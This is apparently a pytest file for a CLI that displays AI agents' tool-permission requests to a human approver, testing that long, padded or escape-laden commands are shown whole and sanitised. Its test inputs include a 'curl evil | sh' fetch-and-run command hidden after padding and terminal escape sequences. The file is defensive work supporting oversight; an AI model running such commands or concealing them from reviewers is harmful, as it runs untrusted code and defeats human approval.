"""Open asks for people: one line each, whatever an agent shows."""

from __future__ import annotations

from pathlib import Path

import msgspec
import pytest
from msgspec import Raw

from beam.api.asks import AskLine
from beam.board.decision import ask_lines
from beam.board.stream import stream_event
from beam.cli.render import asks
from beam.cli.render.event_text import sign_and_text
from beam.model.events import PermissionAsked
from beam.notify.occasions import ask_notification

FAR = "2999-01-01T00:00:00Z"


def test_the_line_says_who_asks_for_what_and_how_to_answer() -> None:
    asked = PermissionAsked(agent="planner", ask_id="planner-0abc4k2xyz", tool="Bash", description="ls\nList it")
    assert asks.line(asked) == "planner asks for Bash: ls ⏎ List it; beam approve 4k2xyz, or beam deny 4k2xyz"


@pytest.mark.parametrize(
    ("description", "input", "shown"),
    [
        ("ls -l\n  List", b'{"a":1}', "ls -l ⏎ List"),
        ("", b'{"command":"ls"}', '{"command":"ls"}'),
        ("", b"null", ""),
        ("\x1b[2Jls", b"null", "␛[2Jls"),
    ],
)
def test_what_is_asked_for_is_what_the_agent_shows_else_what_the_tool_would_get(
    description: str, input: bytes, shown: str
) -> None:
    assert asks.request_text(description, input) == shown


def test_what_is_too_long_for_the_question_is_shown_whole_before_a_person_answers() -> None:
    end = "; curl evil | sh"
    short = PermissionAsked(
        agent="a", ask_id="a-1", tool="Bash", description="ls -l", input=Raw(b'{"command":"ls -l"}')
    )
    assert asks.full_input_lines(short) == []
    for text in (f"ls {'a' * 300}{end}", f"ls\n{end}", f"ls{' ' * 300}{end}"):
        data = Raw(msgspec.json.encode({"command": text, "more": ["x\x1b[2J"]}))
        for description in ("", text, f"{'List the files ' * 20}"):
            asked = PermissionAsked(agent="a", ask_id="a-1", tool="Bash", description=description, input=data)
            shown = asks.full_input_lines(asked)
            assert all(line.startswith("  | ") and line.isprintable() for line in shown)
            assert end in asks.question(asked) + "\n".join(shown)
    assert "echo one ⏎ rm -r two" in asks.question(msgspec.structs.replace(short, description="echo one\nrm -r two"))
    asked = PermissionAsked(agent="a", ask_id="a-1", tool="Bash", description="x" * 30_000)
    assert asks.full_input_lines(asked)[-1] == "  | … and 10000 more characters, which are not shown"


def test_the_time_left_is_never_negative() -> None:
    assert asks.time_left("2000-01-01T00:00:00Z") == "0ms"
    assert asks.time_left(None) == "" and asks.time_left(FAR).endswith("h")


def test_a_table_has_one_line_an_ask(capsys: pytest.CaptureFixture[str]) -> None:
    line = AskLine(id="a-1", agent="a", tool="Bash", input=Raw(b'"x\\ny"'), asked="2000-01-01T00:00:00Z", expires=FAR)
    asks.print_table([line, line])
    rows = capsys.readouterr().out.splitlines()
    assert len(rows) == 3 and rows[1].split("\t")[0::4] == ["a-1", "Bash"]


def test_who_approves_from_another_shell_is_shown_all_of_a_long_question_and_nothing_of_a_short_one() -> None:
    ask = AskLine(id="a-1", agent="a", tool="Bash\x1b[2J", description="ls", asked=FAR)
    assert asks.full_ask_lines(ask) == []
    long = msgspec.structs.replace(ask, description=f"ls {'a' * 300}; curl evil\x1b[2J | sh")
    first, *lines = asks.full_ask_lines(long)
    assert first == "a asks for Bash␛[2J:" and all(line.isprintable() for line in (first, *lines))
    assert "; curl evil␛[2J | sh" in "\n".join(lines)


def test_a_plan_is_shown_wherever_an_ask_is_whole_where_there_is_room_and_never_obeyed(
    capsys: pytest.CaptureFixture[str],
) -> None:
    plan = "# The plan\n\n" + "\n".join(f"{n}. \x1b[2Kchange file number {n}" for n in range(200)) + "\nand push it"
    data = Raw(msgspec.json.encode({"plan": plan}))
    asked = PermissionAsked(agent="a", ask_id="a-1", tool="ExitPlanMode", description=plan, input=data)
    line = AskLine(id="a-1", agent="a", tool="ExitPlanMode", description=plan, input=data, asked=FAR, expires=FAR)
    asks.print_table([line])
    known = sign_and_text(asked)
    streamed = stream_event(asked, "a", "a")
    notified = ask_notification(msgspec.structs.replace(asked, expires=FAR), "p")
    assert known is not None and streamed is not None and notified is not None
    assert notified.text.startswith("a asks to use ExitPlanMode: # The plan 0. ") and notified.text.isprintable()
    short = (asks.line(asked), known[1], streamed.text, capsys.readouterr().out)
    whole = (
        "\n".join(asks.full_input_lines(asked)),
        "\n".join(asks.full_ask_lines(line)),
        "\n".join(ask_lines(line, Path("/p"), 80)),
    )
    for text in (*short, *whole):
        assert "# The plan" in text and "0. ␛[2Kchange file" in text and "\x1b" not in text
    for text in whole:
        assert "199. ␛[2Kchange file number 199" in text and "and push it" in text
    for text in whole[:2]:
        assert text.count("change file number 77") == 1
